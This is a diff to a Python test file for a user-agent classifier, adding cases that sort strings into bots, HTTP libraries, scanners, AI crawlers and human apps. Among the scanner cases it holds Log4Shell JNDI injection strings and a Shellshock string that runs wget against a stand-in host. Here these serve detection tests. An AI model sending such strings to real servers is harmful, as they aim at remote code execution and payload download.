@@ -21,7 +21,9 @@ from tidemark.parse.bots import (
     purpose_by_name,
 )
 from tidemark.parse.lists import rows
+from tidemark.parse.networks import FORGED, verified
 
+CHROME = "Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36"
 ON_CHROME = (
     "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; {}) Chrome/142.0.0.0 Safari/537.36"
 )
@@ -84,10 +86,103 @@ def test_a_bot_has_name_kind_and_purpose(user_agent: str, expected: Bot) -> None
         ("Mozilla/5.0 (compatible; foo-spider/v2; +https://www.example.org/)", "foo-spider"),
         ("Mozilla/5.0 (iPhone; CPU iPhone OS 8_3 like Mac OS X) (compatible; googlebot/2.1)", "googlebot"),
         ("example crawler/1.0", "crawler"),
+        # Without a version.
+        ("GoodBot", "GoodBot"),
+        ("MB-Web-Crawler", "MB-Web-Crawler"),
+        ("lanaibot please contact bot@example.org for information", "lanaibot"),
+        ("Mozilla/5.0 (compatible; EasouSpider; +http://www.easou.com/search/spider.html)", "EasouSpider"),
+        ("HybridBot (hybrid.ru/about)", "HybridBot"),
+        ("KlarnaBot-PriceWatcher/1.0", "KlarnaBot"),
+        (f"{CHROME} webtru_crawler", "webtru_crawler"),
+        (f"{CHROME} (compatible; Validbot; +https://www.example.org)", "Validbot"),
+        ("R6_FeedFetcher(www.radian6.com/crawler)", "R6_FeedFetcher"),
+        ("Mozilla/5.0 (compatible; Peew/1.0; http://www.peew.de/crawler/)", "Peew"),
+        # By the address of the operator.
+        ("Drupal (+http://drupal.org/)", "Drupal"),
+        ("PeerTube/5.2.0 (+https://peertube.example)", "PeerTube"),
+        ("Pinterest/0.2 (+http://www.pinterest.com/)", "Pinterest"),
+        ("ExampleFetch 1.2 (+mailto:someone@example.org)", "ExampleFetch"),
+        ("Mozilla/5.0 (compatible; +http://www.example.org/about)", "example.org"),
+        ("Mozilla/5.0 (compatible; +mailto:someone@example.org)", "example.org"),
     ],
 )
 def test_who_calls_itself_a_bot_is_one(user_agent: str, name: str) -> None:
     assert bot_of(user_agent) == Bot(name, OTHER_KIND, None)
+
+
+@pytest.mark.parametrize(
+    "user_agent, name, kind",
+    [
+        ("Mozilla/5.0 (Windows NT; Windows NT 10.0; de-DE) WindowsPowerShell/5.1.19041", "PowerShell", "http-library"),
+        ("Mozilla/5.0 (Linux; Ubuntu 22.04.3 LTS; en-US) PowerShell/7.4.1", "PowerShell", "http-library"),
+        ("Go 1.1 package http", "Go 1.1 package http", "http-library"),
+        ("go-http-client/1.1", "go-http-client", "http-library"),
+        ("http.rb/4.2.0", "http.rb", "http-library"),
+        ("unirest-java/1.3.11", "unirest-java", "http-library"),
+        ("PHP/7.0.0", "PHP", "http-library"),
+        ("Dart/3.5 (dart:io)", "Dart", "http-library"),
+        ("node-superagent/5.0.2", "node-superagent", "http-library"),
+        ("Node.js/20", "Node.js", "http-library"),
+        ("undici/6.0", "undici", "http-library"),
+        ("undici", "undici", "http-library"),
+        ("Apache-HttpAsyncClient/4.1.3 (Java/1.8.0_121)", "Apache-HttpAsyncClient", "http-library"),
+        ("Jakarta Commons-HttpClient/3.1", "Jakarta Commons-HttpClient", "http-library"),
+        ("HTTPClient/1.0 (2.8.3, ruby 2.7.0 (2019-12-25))", "HTTPClient", "http-library"),
+        ("Ruby", "Ruby", "http-library"),
+        ("urllib3/2.0.4", "urllib3", "http-library"),
+        ("Python-httplib2/0.20.4 (gzip)", "Python-httplib2", "http-library"),
+        ("HTTP_Request2/2.3.0 (http://pear.php.net/package/http_request2) PHP/5.3.29", "HTTP_Request2", "http-library"),
+        ("Mozilla/4.0 (compatible; Win32; WinHttp.WinHttpRequest.5)", "WinHttp.WinHttpRequest", "http-library"),
+        ("Microsoft BITS/7.8", "Microsoft BITS", "http-library"),
+        ("Symfony BrowserKit", "Symfony BrowserKit", "http-library"),
+        ("Mozilla/5.0 (X11) AppleWebKit/534.34 wkhtmltopdf Safari/534.34", "wkhtmltopdf", "browser-automation"),
+        (f"{CHROME} Cypress/12.17", "Cypress", "browser-automation"),
+        (f"{CHROME} Robot_Framework", "Robot_Framework", "browser-automation"),
+        (f"{CHROME} PTST", "PTST", "monitoring"),
+        ("Mozilla/5.0 (Windows NT 6.0; Neustar WPM) Firefox/38.0", "Neustar WPM", "monitoring"),
+        ("Hetzner_System_Monitoring", "Hetzner_System_Monitoring", "monitoring"),
+        ("Azure Traffic Manager Endpoint Monitor", "Azure Traffic Manager", "monitoring"),
+        ("Mozilla/5.0 Jorgee", "Jorgee", "scanner"),
+        ("l9tcpid/v1.1.0", "l9tcpid", "scanner"),
+        ("libredtail-http", "libredtail-http", "scanner"),
+        ("${jndi:ldap://192.0.2.1/a}", "${jndi", "scanner"),
+        ("t('${${env:NaN:-j}ndi${env:NaN:-:}ldap://192.0.2.1/a}')", "${${", "scanner"),
+        ('() { :; }; /bin/bash -c "wget http://192.0.2.1/a"', "() {", "scanner"),
+        ("FeedFetcher-Google; (+http://www.google.com/feedfetcher.html)", "FeedFetcher-Google", "feed-reader"),
+        ("mediapartners-google", "mediapartners-google", "advertising"),
+        (ON_CHROME.format("Bluesky Cardyb/1.1; +mailto:support@bsky.app"), "Bluesky Cardyb", "social-preview"),
+        # A library inside a bot of another name.
+        ("http.rb/3.2.0 (Mastodon/2.4.3; +https://mastodon.example/)", "Mastodon", "social-preview"),
+        ("LinkedInBot/1.0 (compatible; Jakarta Commons-HttpClient/3.1)", "LinkedInBot", "social-preview"),
+        ("Feedly/1.0 (+http://www.feedly.com/fetcher.html; like FeedFetcher-Google)", "Feedly", "feed-reader"),
+    ],
+)  # fmt: skip
+def test_programs_without_a_word_for_bots(user_agent: str, name: str, kind: str) -> None:
+    assert bot_of(user_agent) == Bot(name, kind, None)
+
+
+def test_fetchers_of_ai_companies_have_a_purpose() -> None:
+    notebook = f"{CHROME} (compatible; Google-GeminiNotebook; +https://developers.google.com/crawling)"
+    assert bot_of(notebook) == Bot("Google-GeminiNotebook", "ai-crawler", "assistant")
+    index = ON_CHROME.format("MistralAI-Index/1.0; +https://docs.mistral.ai/robots")
+    assert bot_of(index) == Bot("MistralAI-Index", "ai-crawler", "search")
+
+
+@pytest.mark.parametrize(
+    "user_agent",
+    [
+        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) AppleWebKit/601.2.4 (KHTML, like Gecko) Version/9.0.1 "
+        "Safari/601.2.4 facebookexternalhit/1.1 Facebot Twitterbot/1.0",
+        "facebookexternalhit/1.1;line-poker/1.0",
+        "facebookexternalhit/1.1; kakaotalk-scrap/1.0; +https://devtalk.kakao.com/t/scrap/33984",
+        "facebookexternalhit/1.1 (compatible; Blueno/1.0; +http://naver.me/scrap)",
+    ],
+)
+def test_previews_of_other_apps_are_not_compared_with_the_networks_of_facebook(user_agent: str) -> None:
+    """They add the names of Facebook's and Twitter's crawlers, as sites show these more."""
+    bot = bot_of(user_agent)
+    assert bot is not None and bot.kind == "social-preview"
+    assert verified([bot.name, "facebookexternalhit"], ["203.0.113.9"] * 2) == [None, FORGED]
 
 
 @pytest.mark.parametrize(
@@ -136,6 +231,27 @@ def test_phones_and_apps_with_names_like_bots_are_people(device: str, app: str) 
     # A bot may pose as such a phone.
     crawler = f"{user_agent} (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
     assert bot_of(crawler) == Bot("Googlebot", "search-engine", None)
+
+
+@pytest.mark.parametrize(
+    "user_agent",
+    [
+        f"{CHROME} Sonic Slack_SSB/4.36.140",
+        "Opera/9.80 (MAUI Runtime; Opera Mini/4.4.39008/37.9178; U; en) Presto/2.12.423 Version/12.16",
+        "sprd-L008/1.0 Linux/2.6.35.7 Android/2.3.5 Release/09.10.2012 Browser/AppleWebKit533.1 Mozilla/5.0 Mobile",
+        "Mozilla/5.0 (iPad; U; CPU iPhone OS 7_0 like Mac OS X; de-DE) WIRED/3.2.3.11.87970",
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 14_7 like Mac OS X) Mobile/15E148 Safari/605.1 Blackboard/6.9",
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 15_0 like Mac OS X) Mobile/15E148 Instapaper/8",
+        "Mozilla/5.0 (Android 13; Mobile; rv:109.0) Gecko/112.0 Firefox/112.0 Freespoke/2.0.0",
+        f"{CHROME} Viber",
+        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) Notion/2.0.23 Chrome/91.0 Electron/13.6.9 Safari/537.36",
+        "Mozilla/5.0 (Windows NT 6.1) coccocbrowser/47.0 Chrome/41.0.2272.119coccoc Safari/537.36",
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 6_0 like Mac OS X) Mobile/10A403 SogouAndroidBrowser/2.6.1",
+        "PodcastAddict/v5 (+https://podcastaddict.com/; Android podcast app)",
+    ],
+)
+def test_apps_and_browsers_with_names_of_bots_are_people(user_agent: str) -> None:
+    assert bot_of(user_agent) is None
 
 
 def test_the_names_on_the_list_without_a_phone_are_bots() -> None:
@@ -190,6 +306,8 @@ def test_own_entries_are_sound() -> None:
 
 def test_own_bots_are_missing_in_the_package() -> None:
     missing = [pattern for pattern, tags, _ in OWN if tags and tags != PERSON]
+    # Previews of other apps, which only add this name.
+    missing = [pattern for pattern in missing if not pattern.startswith("facebookexternalhit/")]
     assert [name for name in missing if crawleruseragents.is_crawler(name.strip("^$/"))] == []
 
 
